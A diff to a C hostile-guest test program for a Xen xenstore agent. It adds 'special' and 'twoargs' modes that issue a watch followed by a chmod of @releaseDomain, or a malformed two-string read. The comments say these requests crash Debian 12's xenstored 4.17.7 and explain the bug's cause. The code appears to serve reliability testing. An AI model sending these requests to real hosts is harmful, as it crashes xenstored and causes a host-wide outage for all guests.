@@ -12,7 +12,8 @@
  *            node names xenstore must refuse;
  *   state    flips each frontend's state through 0..8 and junk;
  *   dom0     reads, lists, writes, creates, removes and chmods /, /xsagent,
- *            /vm, /local/domain/0, the tests' canaries (may be absent);
+ *            /vm, /local/domain/0, the tests' canaries (may be absent),
+ *            @releaseDomain (its chmod only with XSA_HOSTILE_SPECIAL=1);
  *   others   the same on /local/domain/N, N = its domid - 2 .. + MAXDOM;
  *   backend  writes, removes, chmods its own backends' nodes (reading them
  *            is allowed), and writes its own /vm/UUID;
@@ -97,6 +98,7 @@ static char seen_first[16][16];	/* tokens of watches that fired once */
 static unsigned nseen;
 static unsigned rounds_done;
 static bool own_event_seen;
+static bool chmod_special;	/* XSA_HOSTILE_SPECIAL=1: see attack() */
 static char probe_path[64];	/* the path probe_events waits for */
 static char junk[NJUNK][3200];
 static size_t junk_len[NJUNK];
@@ -547,6 +549,13 @@ static void attack(enum cat c, const char *path, bool all)
 	try_str(c, true, p, token);
 	try_path(c, true, XS_MKDIR, p);
 	try_path(c, true, XS_RM, path);
+	/* A chmod of a special node ("@...") kills Debian 12's xenstored
+	 * (4.17.7) whenever the errno it then returns is a stale 0
+	 * (xsa.hostile=special below): an outage of the whole host, which
+	 * says nothing about the agent, so only with XSA_HOSTILE_SPECIAL=1
+	 * (the guest's xsa.hostile-special=1), for a xenstored without it. */
+	if (path[0] == '@' && !chmod_special)
+		return;
 	snprintf(p, sizeof(p), "b%u", domid);
 	try_perms(c, true, path, p, NULL);
 	try_perms(c, true, path, "n0", p);
@@ -850,6 +859,45 @@ static int quota_sequence(void)
 	return 0;
 }
 
+/* xsa.hostile=special: the request that killed Debian's 4.17.7 xenstored
+ * in 37-hostile-guest (docs/reliability.md, "xenstored dies under the
+ * hostile guest").  Its do_set_perms() on a special node ("@...") returns
+ * errno, not the EACCES that set_perms_special() returned for a guest, and
+ * so sends no reply when errno is 0; consider_message() then aborts on
+ * "conn->in == NULL".  A successful XS_WATCH sets errno to 0 (do_watch
+ * assigns it), so: watch, then chmod @releaseDomain, TRIES times (other
+ * connections' requests may run in between and leave another errno).
+ * xsa.hostile=twoargs: the same with an XS_READ of two strings instead:
+ * its onearg() is NULL, and so is the name canonicalize() makes of it,
+ * with errno untouched.
+ * Prints XSAGENT-GUEST-SPECIAL lines: each try's reply; with the bug the
+ * program dies on its 20 s alarm instead. */
+static int special_sequence(bool twoargs)
+{
+	static char body[PAYLOAD_MAX + 1];
+	unsigned counts_r[NRES] = { 0 }, i;
+
+	for (i = 0; i < 10; i++) {
+		char w[64];
+		int n = snprintf(w, sizeof(w), "data/hs%c%s-s%u", '\0', token, i);
+		enum res r;
+
+		xs_req(XS_WATCH, 0, w, (size_t)n + 1, body);
+		printf("XSAGENT-GUEST-SPECIAL try %u: %s right after a watch\n", i,
+		       twoargs ? "a read of two strings" : "chmod @releaseDomain");
+		r = twoargs ? xs_req(XS_READ, 0, "data/hs\0x", sizeof("data/hs\0x"), body) :
+			xs_req(XS_SET_PERMS, 0, "@releaseDomain\0n0", sizeof("@releaseDomain\0n0"), body);
+		printf("XSAGENT-GUEST-SPECIAL try %u: %s\n", i, r == RES_OK ? "ok" : res_names[r]);
+		counts_r[r]++;
+		xs_req(XS_UNWATCH, 0, w, (size_t)n + 1, body);
+	}
+	printf("XSAGENT-GUEST-SPECIAL tries=%u", i);
+	for (int e = 0; e < NRES; e++)
+		printf(" %s=%u", e ? res_names[e] : "ok", counts_r[e]);
+	printf("\n");
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	static const char *const watched[] = {
@@ -862,9 +910,11 @@ int main(int argc, char **argv)
 	int live, live_before = 0;
 
 	bool quota = argc == 3 && !strcmp(argv[1], "quota");
+	bool special = argc == 3 && !strcmp(argv[1], "special");
+	bool twoargs = argc == 3 && !strcmp(argv[1], "twoargs");
 
-	if (argc != 3 || (!quota && atoi(argv[1]) <= 0))
-		die("usage: xsa-hostile SECONDS|quota TOKEN");
+	if (argc != 3 || (!quota && !special && !twoargs && atoi(argv[1]) <= 0))
+		die("usage: xsa-hostile SECONDS|quota|special|twoargs TOKEN");
 	secs = atoi(argv[1]);
 	snprintf(token, sizeof(token), "%s", argv[2]);
 	setvbuf(stdout, NULL, _IOLBF, 0);
@@ -881,6 +931,10 @@ int main(int argc, char **argv)
 		die("open /dev/xen/xenbus: %s", strerror(errno));
 	if (quota)
 		return quota_sequence();
+	if (special || twoargs)
+		return special_sequence(twoargs);
+	chmod_special = getenv("XSA_HOSTILE_SPECIAL") &&
+			!strcmp(getenv("XSA_HOSTILE_SPECIAL"), "1");
 	t0 = now();
 	discover();
 	make_junk();
